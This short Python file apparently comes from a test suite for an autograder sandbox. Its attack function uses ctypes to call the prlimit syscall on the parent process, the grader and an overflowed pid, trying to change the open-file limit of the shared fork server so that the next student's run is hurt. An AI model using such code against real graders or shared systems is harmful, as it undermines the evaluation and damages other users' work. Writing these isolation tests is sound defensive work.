"""Wants the fork server to open fewer files, which it would find out with the next student."""

import ctypes
import os

PRLIMIT = {"x86_64": 302, "aarch64": 261}[os.uname().machine]


def attack():
    libc = ctypes.CDLL(None)
    current = (ctypes.c_ulong * 2)()
    for pid in (os.getppid(), int("$GRADER"), 2**32 + os.getppid()):
        for new, old in ((None, current), (current, None)):
            if libc.syscall(PRLIMIT, ctypes.c_long(pid), 7, new, old) == 0 and current[0]:
                return pid, list(current)
